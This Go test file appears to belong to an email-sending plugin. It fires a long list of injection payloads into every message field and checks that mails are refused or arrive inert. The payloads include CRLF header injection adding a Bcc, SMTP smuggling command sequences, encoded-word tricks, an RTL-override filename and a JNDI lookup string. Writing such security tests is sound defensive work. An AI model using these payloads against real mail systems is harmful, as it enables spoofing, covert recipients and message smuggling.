package email_test

import (
	"bytes"
	"fmt"
	"io"
	"mime"
	"net"
	"net/mail"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/jhillyerd/enmime/v2"

	"holdfast/plugins/email"
	"holdfast/plugins/plugintest"
	"holdfast/plugins/proto"
)

// victim must get nothing.
const victim = "victim@elsewhere.example"

// payloads try to end a header, a text or a command before its time, to begin
// others, or to show a reader something else than what was written.
var payloads = []string{
	"x\r\nBcc: " + victim, "x\nBcc: " + victim, "x\rBcc: " + victim, "x\n\rBcc: " + victim, "x\r\n\r\nanother body", "x\n\nanother body",
	"x\r\n Bcc: " + victim, "x\r\n\tBcc: " + victim, "\r\nBcc: " + victim, "x\r\n", "x\n", "x\r", "\n", "\r\n\r\n",
	"x\u2028Bcc: " + victim, "x\u2029Bcc: " + victim, "x\u0085Bcc: " + victim, "x\u000bBcc: " + victim, "x\u000cBcc: " + victim,
	"x\x00Bcc: " + victim, "x\x00", "x\x08\x08\x08y", "x\x1b[2Jy", "x\x7fy", "x\u0000\r\nBcc: " + victim,
	"=?utf-8?q?x=0D=0ABcc:_victim=40elsewhere.example?=", "=?utf-8?b?eA0KQmNjOiB2aWN0aW1AZWxzZXdoZXJlLmV4YW1wbGU=?=",
	"=?utf-7?q?x+AA0ACg-Bcc?=", "x =?utf-8?q?y?= z", "=?utf-8?q?unfinished", "?= =?utf-8?q?Bcc:?=",
	"%0D%0ABcc: " + victim, "%0aBcc: " + victim, `x\r\nBcc: ` + victim, "x嘊嘍Bcc: " + victim, // whose low bytes are CR and LF
	"x\r\n.\r\nMAIL FROM:<evil@elsewhere.example>\r\nRCPT TO:<" + victim + ">\r\nDATA\r\nSubject: smuggled\r\n\r\nhi\r\n.\r\n",
	"x\n.\nMAIL FROM:<evil@elsewhere.example>\nRCPT TO:<" + victim + ">\nDATA\nhi\n.\n",
	"x\n.\r\nMAIL FROM:<evil@elsewhere.example>\r\n", "x\r.\rMAIL FROM:<evil@elsewhere.example>\r", "x\r\n.\rMAIL FROM:<evil@elsewhere.example>\r\n",
	"x\r.\r\nMAIL FROM:<evil@elsewhere.example>\r\n", "x\r\n\x00.\r\nMAIL FROM:<evil@elsewhere.example>\r\n", ".", "..", ".\r\n", "\r\n.\r\n", ".\nQUIT",
	"> RCPT TO:<" + victim + ">", "<" + victim + ">", "a@b.example, " + victim, "a@b.example> <" + victim, `"x" <` + victim + `>`, `x" <` + victim + `>, "y`, `x\" <` + victim + `>`,
	`x (comment) <` + victim + `>`, "x;y:z, " + victim, `x\`, `"`, `""`,
	strings.Repeat("A", 1200), strings.Repeat("Ä", 900), strings.Repeat("x ", 600), strings.Repeat(" ", 300) + "x", "a  b   c" + strings.Repeat(" ", 80) + strings.Repeat("b", 80),
	"\u202egpj.exe", "x\u200by", "x\xffy", "--=_0_" + strings.Repeat("0", 32) + "\r\n", "Content-Type: text/html\r\n\r\n<script>", "{{.Secret}}", "${jndi:ldap://elsewhere.example}", "text/html; x=\"\r\n\"",
}

// fields puts a payload into each place of a message. shown says what a reader
// must see there, if the message is sent; nil: it need not be seen.
var fields = map[string]struct {
	put   func(*proto.Message, string)
	shown func(*testing.T, *mail.Message, *enmime.Envelope) string
}{
	"subject":        {func(m *proto.Message, p string) { m.Subject = p }, func(t *testing.T, m *mail.Message, _ *enmime.Envelope) string { return decoded(t, m, "Subject") }},
	"recipient":      {func(m *proto.Message, p string) { m.To[0].Name = p }, func(t *testing.T, m *mail.Message, _ *enmime.Envelope) string { return name(t, m, "To") }},
	"sender":         {func(m *proto.Message, p string) { m.From.Name = p }, func(t *testing.T, m *mail.Message, _ *enmime.Envelope) string { return name(t, m, "From") }},
	"copy":           {func(m *proto.Message, p string) { m.Cc = []*proto.Mailbox{{Name: p, Address: "copy@customer.example"}} }, func(t *testing.T, m *mail.Message, _ *enmime.Envelope) string { return name(t, m, "Cc") }},
	"text":           {func(m *proto.Message, p string) { m.Text = p }, func(_ *testing.T, _ *mail.Message, e *enmime.Envelope) string { return e.Text }},
	"html":           {func(m *proto.Message, p string) { m.Html = p + "!" }, func(_ *testing.T, _ *mail.Message, e *enmime.Envelope) string { return strings.TrimSuffix(e.HTML, "!") }},
	"address":        {put: func(m *proto.Message, p string) { m.To[0].Address = p }},
	"local part":     {put: func(m *proto.Message, p string) { m.To[0].Address = p + "@customer.example" }},
	"domain":         {put: func(m *proto.Message, p string) { m.To[0].Address = "a@" + p }},
	"sender address": {put: func(m *proto.Message, p string) { m.From.Address = p + "@holdfast.example" }},
	"copy address":   {put: func(m *proto.Message, p string) { m.Cc = []*proto.Mailbox{{Address: p}} }},
	"reply address":  {put: func(m *proto.Message, p string) { m.ReplyTo = p }},
	"language":       {put: func(m *proto.Message, p string) { m.Language = p }},
	"tag":            {put: func(m *proto.Message, p string) { m.Tag = p }},
	"thread":         {put: func(m *proto.Message, p string) { m.Thread = p }},
	"unsubscribe":    {put: func(m *proto.Message, p string) { m.Unsubscribe = p }},
	"link's end":     {put: func(m *proto.Message, p string) { m.Unsubscribe = "https://holdfast.example/u/" + p }},
	"attachment": {put: func(m *proto.Message, p string) {
		m.Attachments = []*proto.Attachment{{Name: p, Type: "text/plain", Data: []byte("x")}}
	}},
	"attachment type": {put: func(m *proto.Message, p string) { m.Attachments = []*proto.Attachment{{Name: "a", Type: p}} }},
	"type's end": {put: func(m *proto.Message, p string) {
		m.Attachments = []*proto.Attachment{{Name: "a", Type: "text/plain; x=" + p}}
	}},
	"picture": {put: func(m *proto.Message, p string) {
		m.Attachments = []*proto.Attachment{{Name: "a", Type: "image/png", ContentId: p}}
	}},
}

func decoded(t *testing.T, m *mail.Message, name string) string {
	t.Helper()
	text, err := new(mime.WordDecoder).DecodeHeader(m.Header.Get(name))
	if err != nil {
		t.Error(err)
	}
	return text
}

func name(t *testing.T, m *mail.Message, field string) string {
	t.Helper()
	list, err := m.Header.AddressList(field)
	if err != nil || len(list) != 1 {
		t.Errorf("%s: %v, %v", field, list, err)
		return ""
	}
	return list[0].Name
}

// TestInjection puts every payload into every field. Each mail is refused, or
// arrives as one mail, to whom it was meant for, with the headers that it
// should have and the payload as plain text.
func TestInjection(t *testing.T) {
	s := new(sink)
	tap := &wiretap{}
	client := plugintest.Configured(t, email.New(), settings(tap.before(t, s.serve(t, nil)), `, "connections": 8`))
	sent, n := map[string]attempt{}, 0
	for field, f := range fields {
		for _, payload := range payloads {
			n++
			r := plugintest.Request(n)
			r.Message.Unsubscribe, r.Message.Tag, r.Message.Thread = "https://holdfast.example/u/x", "HF-1", "t1"
			f.put(r.Message, payload)
			sent[r.Key] = attempt{field, payload, r}
		}
	}
	accepted := deliverAll(t, client, sent)
	if refused := len(sent) - len(accepted); len(sent) < 40*len(fields) || len(accepted) < 100 || refused < 100 {
		t.Errorf("of %d, %d were accepted", len(sent), len(accepted))
	}
	want := 0
	for _, a := range accepted {
		want += 1 + len(a.Message.Cc)
	}
	if len(s.mails) != want {
		t.Errorf("%d mails arrived of %d that were accepted", len(s.mails), want)
	}
	tap.check(t, want)
	for _, to := range s.recipients {
		if strings.Contains(to, "elsewhere.example") {
			t.Errorf("a mail was sent to %s", to)
		}
	}
	for _, raw := range s.mails {
		checkInert(t, raw, accepted)
	}
}

// attempt is a message with what was put where.
type attempt struct {
	field, payload string
	*proto.SendRequest
}

// deliverAll sends everything and returns what was accepted; what a text of
// proto 3 can't hold never gets as far as the channel.
func deliverAll(t *testing.T, client proto.ChannelClient, all map[string]attempt) map[string]attempt {
	t.Helper()
	accepted := map[string]attempt{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	lanes := make(chan struct{}, 16)
	for key, a := range all {
		lanes <- struct{}{}
		wg.Go(func() {
			defer func() { <-lanes }()
			answer, err := client.Send(t.Context(), a.SendRequest)
			switch {
			case err != nil && strings.Contains(err.Error(), "invalid UTF-8"):
			case err != nil:
				t.Errorf("%s %q: %v", a.field, a.payload, err)
			case answer.Outcome.State == proto.State_STATE_ACCEPTED:
				mu.Lock()
				defer mu.Unlock()
				accepted[key] = a
			case answer.Outcome.State != proto.State_STATE_REFUSED:
				t.Errorf("%s %q: %v", a.field, a.payload, answer.Outcome)
			}
		})
	}
	wg.Wait()
	return accepted
}

var knownHeaders = []string{
	"Date", "X-Holdfast-Key", "From", "Reply-To", "To", "Cc", "Subject", "Message-Id", "In-Reply-To", "References", "Auto-Submitted",
	"X-Auto-Response-Suppress", "List-Unsubscribe", "List-Unsubscribe-Post", "Content-Language", "Mime-Version", "Content-Type", "Content-Transfer-Encoding",
}

var newlines = regexp.MustCompile(`\r\n|\r|\n`)

// checkInert looks at one mail as its receiver does.
func checkInert(t *testing.T, raw []byte, accepted map[string]attempt) {
	t.Helper()
	m, err := mail.ReadMessage(bytes.NewReader(raw))
	if err != nil {
		t.Errorf("%v:\n%s", err, raw)
		return
	}
	a, ok := accepted[m.Header.Get("X-Holdfast-Key")]
	if !ok {
		t.Errorf("nobody sent:\n%s", raw)
		return
	}
	for name, values := range m.Header {
		if !slices.Contains(knownHeaders, name) || len(values) > 1 {
			t.Errorf("%s %q: header %s %q", a.field, a.payload, name, values)
		}
	}
	for line := range bytes.SplitSeq(raw, []byte("\r\n")) {
		if len(line) > 998 {
			t.Errorf("%s %q: a line of %d bytes", a.field, a.payload, len(line))
		}
	}
	envelope, err := enmime.ReadEnvelope(bytes.NewReader(raw))
	if err != nil {
		t.Errorf("%s %q: %v", a.field, a.payload, err)
		return
	}
	if shown := fields[a.field].shown; shown != nil {
		got, want := newlines.ReplaceAllString(shown(t, m, envelope), "\n"), newlines.ReplaceAllString(a.payload, "\n")
		if strings.TrimSuffix(got, "\n") != strings.TrimSuffix(want, "\n") {
			t.Errorf("%s: %q is shown as %q", a.field, want, got)
		}
	}
}

// wiretap keeps all that a channel says to a server.
type wiretap struct {
	mu    sync.Mutex
	heard []*bytes.Buffer
}

// before listens in front of a port and returns its own.
func (w *wiretap) before(t *testing.T, port int) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			client, err := l.Accept()
			if err != nil {
				return
			}
			server, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
			if err != nil {
				_ = client.Close()
				continue
			}
			w.mu.Lock()
			heard := new(bytes.Buffer)
			w.heard = append(w.heard, heard)
			w.mu.Unlock()
			go func() { _, _ = io.Copy(client, server); _ = client.Close() }()
			go func() { _, _ = io.Copy(server, io.TeeReader(client, w.locked(heard))); _ = server.Close() }()
		}
	}()
	return l.Addr().(*net.TCPAddr).Port
}

// locked writes to a buffer under the tap's lock.
func (w *wiretap) locked(b *bytes.Buffer) io.Writer {
	return writerFunc(func(p []byte) (int, error) {
		w.mu.Lock()
		defer w.mu.Unlock()
		return b.Write(p)
	})
}

type writerFunc func([]byte) (int, error)

func (f writerFunc) Write(p []byte) (int, error) { return f(p) }

// check reads the lines that were said: each ends in CRLF, no other CR or LF
// occurs, and there are as many transactions as there should be.
func (w *wiretap) check(t *testing.T, want int) {
	t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	transactions := 0
	for _, heard := range w.heard {
		said := heard.String()
		if rest := strings.ReplaceAll(said, "\r\n", ""); strings.ContainsAny(rest, "\r\n") {
			at := strings.IndexAny(rest, "\r\n")
			t.Errorf("a bare CR or LF went over the line near %q", rest[max(0, at-60):at+1])
		}
		transactions += strings.Count(said, "\r\n.\r\n")
	}
	if transactions != want {
		t.Errorf("%d messages were ended, %d were meant to be", transactions, want)
	}
}
